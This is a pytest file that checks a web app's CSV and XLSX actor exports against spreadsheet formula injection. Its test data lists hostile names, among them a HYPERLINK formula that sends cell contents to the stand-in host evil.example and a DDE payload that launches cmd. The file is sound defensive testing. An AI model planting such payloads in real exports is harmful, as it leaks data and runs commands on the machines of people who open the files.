"""Exports never hand a spreadsheet a live formula (OWASP "CSV Injection").

Any contributor can name an organisation, and the actor list is exported to anyone; a name that
starts with ``=`` (or ``+ - @``, a tab or a carriage return) must arrive as text.
"""

from __future__ import annotations

import io

import openpyxl
import pytest
from fastapi.testclient import TestClient

from socialcover import actors, store
from socialcover.web import Settings

NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


@pytest.fixture
def hostile_actors(client: TestClient, web_settings: Settings) -> None:
    actor = store.SystemActor()  # after `client`: the app has created the database
    with store.session_scope(actor, url=web_settings.database_url) as s:
        for name in NAMES:
            actors.create_organisation(s, actor, {"name": name, "actor_type": "government"})


def test_csv_export_writes_formula_starts_after_a_quote(
    hostile_actors: None, client: TestClient
) -> None:
    resp = client.get("/api/v1/actors?format=csv&per_page=200")
    assert resp.status_code == 200, resp.text
    lines = resp.text.splitlines()
    for name in NAMES:
        first_line = name.splitlines()[0].replace('"', '""')
        assert any(f"'{first_line}" in line for line in lines), name
    assert not any(line.startswith(("=", "+", "@")) for line in lines)


def test_xlsx_export_stores_formula_starts_as_text(
    hostile_actors: None, client: TestClient
) -> None:
    resp = client.get("/api/v1/actors?format=xlsx&per_page=200")
    assert resp.status_code == 200, resp.text
    sheet = openpyxl.load_workbook(io.BytesIO(resp.content)).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value in NAMES}
    assert set(cells) == set(NAMES)
    assert set(cells.values()) == {"s"}  # text cells, none a formula ("f")
